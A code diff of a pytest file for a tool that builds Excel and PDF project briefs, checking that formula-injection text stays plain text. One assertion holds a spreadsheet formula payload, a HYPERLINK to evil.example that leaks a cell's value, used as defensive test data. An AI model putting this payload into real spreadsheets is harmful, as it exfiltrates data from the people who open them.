@@ -10,6 +10,7 @@ and a contact person; when data/clean exists, the real tables are briefed too.
 from __future__ import annotations
 
 import argparse
+import csv
 import datetime as dt
 import os
 import re
@@ -17,8 +18,8 @@ import shutil
 import subprocess
 import zipfile
 import zlib
-from xml.etree import ElementTree as ET
 from pathlib import Path
+from xml.etree import ElementTree as ET
 
 import pandas as pd
 import pytest
@@ -372,7 +373,12 @@ def test_unknown_category_value_passes_through() -> None:
 def test_overview_values(briefs) -> None:
     ws = load_workbook(briefs["en"])["Overview"]
     rows = {r["Project"]: r for r in _sheet_rows(ws)}
-    assert list(rows) == ["sb-creative-clusters", "urban-creative-poles", "visaginas-cluster", "hostile"]
+    assert list(rows) == [
+        "sb-creative-clusters",
+        "urban-creative-poles",
+        "visaginas-cluster",
+        "hostile",
+    ]
     sb = rows["sb-creative-clusters"]
     assert sb["Total (EUR)"] == 264145.0
     assert sb["EU funds (EUR)"] == 217833.25
@@ -509,7 +515,7 @@ def test_native_charts_read_overview_cells(briefs, lang) -> None:
     # series and categories are ranges of the overview sheet, so editing a number there
     # changes the chart: total (H), EU (I), EU + national (K); project ids (A) as text
     assert _series(budget) == [
-        {"title": f"{ov}!H1", "cat": f"{ov}!$A$2:$A$5", "val": f"{ov}!${c}$2:${c}$5"}
+        {"title": f"{ov}!{c}1", "cat": f"{ov}!$A$2:$A$5", "val": f"{ov}!${c}$2:${c}$5"}
         for c in "HIK"
     ]
     assert [s["val"] for s in _series(share)] == [f"{ov}!$J$2:$J$5", f"{ov}!$L$2:$L$5"]
@@ -541,13 +547,14 @@ def test_no_source_text_becomes_a_formula(briefs, lang) -> None:
                 assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                 if isinstance(cell.value, str):
                     assert cell.data_type == "s", (ws.title, cell.coordinate)
-                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) or (
+                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\n", "＝")) or (
                         cell.value == "#REF!"
                     ):
                         assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                         seen.add(cell.value)
     # every hostile text arrives intact, as text
-    assert set(HOSTILE) <= seen
+    # every hostile text arrives intact, as text (a carriage return is a line feed in XML)
+    assert {h.replace("\r", "\n") for h in HOSTILE} <= seen
     with zipfile.ZipFile(briefs[lang]) as z:
         for name in z.namelist():
             if name.startswith("xl/worksheets/sheet"):
@@ -612,7 +619,7 @@ def test_unwritable_paths_are_clear_errors(tables, tmp_path, name) -> None:
 
 def test_parent_that_is_a_file_is_a_clear_error(tables, tmp_path) -> None:
     (tmp_path / "file").write_text("x")
-    with pytest.raises(BriefError, match="cannot write .*cannot create folder"):
+    with pytest.raises(BriefError, match=r"cannot write .*cannot create folder"):
         write_brief(tables, tmp_path / "file" / "b.xlsx")
 
 
@@ -642,7 +649,9 @@ def test_existing_file_replaced_only_by_a_complete_one(tables, tmp_path, monkeyp
 
 
 def test_selection_and_order(tables, tmp_path) -> None:
-    path = write_brief(tables, tmp_path / "b.xlsx", ["visaginas-cluster", "sb-creative-clusters"], "lt")
+    path = write_brief(
+        tables, tmp_path / "b.xlsx", ["visaginas-cluster", "sb-creative-clusters"], "lt"
+    )
     wb = load_workbook(path)
     ids = [r["Projektas"] for r in _sheet_rows(wb["Apžvalga"])]
     assert ids == ["visaginas-cluster", "sb-creative-clusters"]
@@ -664,7 +673,7 @@ def data_dir(tmp_path, tables) -> Path:
         for column in out.columns:
             if pd.api.types.is_datetime64_any_dtype(out[column]):
                 out[column] = out[column].dt.strftime("%Y-%m-%d")
-        out.to_csv(clean / schema.TABLES[name].filename, index=False)
+        out.to_csv(clean / schema.TABLES[name].filename, index=False, quoting=csv.QUOTE_ALL)
     raw = tmp_path / "data" / "raw"
     raw.mkdir()
     (raw / "003_aa.txt").write_text(CONTACT_QUOTE, encoding="utf-8")
@@ -735,7 +744,10 @@ def test_brief_of_the_clean_tables(tmp_path) -> None:
     for lang in i18n.LANGS:
         path = build_brief(paths.CLEAN_DIR, tmp_path / f"{lang}.xlsx", lang=lang)
         wb = load_workbook(path)
-        ids = [r[i18n.header("overview", "project_id", lang)] for r in _sheet_rows(wb[wb.sheetnames[1]])]
+        ids = [
+            r[i18n.header("overview", "project_id", lang)]
+            for r in _sheet_rows(wb[wb.sheetnames[1]])
+        ]
         assert ids == tables["projects"]["project_id"].tolist()
         text = _all_text(path)
         contacts = tables["contacts"]
@@ -755,7 +767,9 @@ def _soffice() -> str:
     exe = shutil.which("soffice") or shutil.which("libreoffice")
     if exe is None:
         if os.environ.get("CI"):
-            pytest.fail("LibreOffice (soffice) is required in CI: apt-get install libreoffice-calc-nogui")
+            pytest.fail(
+                "LibreOffice (soffice) is required in CI: apt-get install libreoffice-calc-nogui"
+            )
         pytest.skip("LibreOffice (soffice) not installed; .ci/run installs it")
     return exe
 
@@ -779,10 +793,10 @@ def _convert(path: Path, target: str, out_dir: Path, profile: Path) -> Path:
         timeout=180,
     )
     ext = target.split(":")[0]
-    converted = out_dir / f"{path.stem}.{ext}"
     assert result.returncode == 0, result.stderr
-    assert converted.is_file(), (result.stdout, result.stderr)
-    return converted
+    converted = sorted(out_dir.glob(f"{path.stem}*.{ext}"))
+    assert len(converted) == 1, (result.stdout, result.stderr)
+    return converted[0]
 
 
 def pdf_text(data: bytes) -> str:
@@ -792,57 +806,59 @@ def pdf_text(data: bytes) -> str:
     CMap per font; this decodes the content streams' hex strings with those maps. Enough to
     check which words a page shows, not a general PDF parser.
     """
-    objects: dict[int, bytes] = {}
-    for m in re.finditer(rb"(\d+) 0 obj(.*?)endobj", data, re.S):
-        objects[int(m.group(1))] = m.group(2)
+    objects = {int(n): body for n, body in re.findall(rb"(\d+) 0 obj(.*?)endobj", data, re.S)}
 
     def stream(body: bytes) -> bytes:
-        m = re.search(rb"stream\r?\n(.*?)\r?\nendstream", body, re.S)
+        m = re.search(rb"stream\r?\n(.*)endstream", body, re.S)
         if not m:
             return b""
         raw = m.group(1)
-        return zlib.decompress(raw) if b"FlateDecode" in body[: m.start()] else raw
+        return zlib.decompressobj().decompress(raw) if b"FlateDecode" in body[: m.start()] else raw
 
-    def cmap(num: int) -> dict[bytes, str]:
+    def deref(body: bytes, key: bytes) -> bytes:
+        """The dictionary under /key, inline or through an indirect reference."""
+        m = re.search(rb"/" + key + rb"\s*(\d+) 0 R", body)
+        if m:
+            return objects.get(int(m.group(1)), b"")
+        m = re.search(rb"/" + key + rb"\s*<<(.*?)>>", body, re.S)
+        return m.group(1) if m else b""
+
+    def cmap(body: bytes) -> dict[bytes, str]:
         table: dict[bytes, str] = {}
-        text = stream(objects[num])
+        text = stream(body)
         for block in re.findall(rb"beginbfchar(.*?)endbfchar", text, re.S):
             for src, dst in re.findall(rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block):
                 table[bytes.fromhex(src.decode())] = bytes.fromhex(dst.decode()).decode("utf-16-be")
+        pattern = rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>"
         for block in re.findall(rb"beginbfrange(.*?)endbfrange", text, re.S):
-            for lo, hi, dst in re.findall(rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block):
+            for lo, hi, dst in re.findall(pattern, block):
                 a, b, d = int(lo, 16), int(hi, 16), int(dst, 16)
-                width = len(lo) // 2
                 for k in range(b - a + 1):
-                    table[(a + k).to_bytes(width, "big")] = chr(d + k)
+                    table[(a + k).to_bytes(len(lo) // 2, "big")] = chr(d + k)
         return table
 
-    fonts: dict[int, dict[bytes, str]] = {}
-    for num, body in objects.items():
-        m = re.search(rb"/ToUnicode (\d+) 0 R", body)
-        if m:
-            fonts[num] = cmap(int(m.group(1)))
     out: list[str] = []
     for body in objects.values():
-        if b"/Type/Page" not in body.replace(b" ", b"") or b"/Contents" not in body:
+        if not re.search(rb"/Type\s*/Page\b", body) or b"/Contents" not in body:
             continue
-        names = {}
-        res = re.search(rb"/Font\s*<<(.*?)>>", body, re.S)
-        if res is None:
-            ref = re.search(rb"/Resources (\d+) 0 R", body)
-            res = re.search(rb"/Font\s*<<(.*?)>>", objects[int(ref.group(1))], re.S) if ref else None
-        if res:
-            names = {n: int(o) for n, o in re.findall(rb"/(\w+) (\d+) 0 R", res.group(1))}
-        for c in re.findall(rb"/Contents (\d+) 0 R", body):
-            content = stream(objects[int(c)])
+        fonts: dict[bytes, dict[bytes, str]] = {}
+        for name, num in re.findall(
+            rb"/(\w+)\s*(\d+) 0 R", deref(deref(body, b"Resources"), b"Font")
+        ):
+            font = objects.get(int(num), b"")
+            ref = re.search(rb"/ToUnicode\s*(\d+) 0 R", font)
+            fonts[name] = cmap(objects[int(ref.group(1))]) if ref else {}
+        for c in re.findall(rb"/Contents\s*(\d+) 0 R", body):
             font: dict[bytes, str] = {}
-            for tok in re.finditer(rb"/(\w+) [\d.]+ Tf|<([0-9A-Fa-f]*)>|(ET)", content):
+            for tok in re.finditer(
+                rb"/(\w+) [\d.]+ Tf|<([0-9A-Fa-f]*)>|(ET)", stream(objects[int(c)])
+            ):
                 if tok.group(1):
-                    font = fonts.get(names.get(tok.group(1), -1), {})
+                    font = fonts.get(tok.group(1), {})
                 elif tok.group(2) is not None:
                     raw = bytes.fromhex(tok.group(2).decode())
-                    width = max((len(k) for k in font), default=1)
-                    out.append("".join(font.get(raw[i : i + width], "") for i in range(0, len(raw), width)))
+                    w = max((len(k) for k in font), default=1)
+                    out.append("".join(font.get(raw[i : i + w], "") for i in range(0, len(raw), w)))
                 else:
                     out.append(" ")
     return "".join(out)
@@ -872,8 +888,10 @@ def test_libreoffice_reads_hostile_text_as_text(briefs, tmp_path) -> None:
     _soffice()
     # CSV export of the Budgets sheet (sheet 4): party and quote columns hold the hostile texts
     csv = _convert(
-        briefs["en"], 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,4',
-        tmp_path, tmp_path / "profile",
+        briefs["en"],
+        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,4",
+        tmp_path,
+        tmp_path / "profile",
     )
     text = csv.read_text(encoding="utf-8")
     assert '=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")' in text
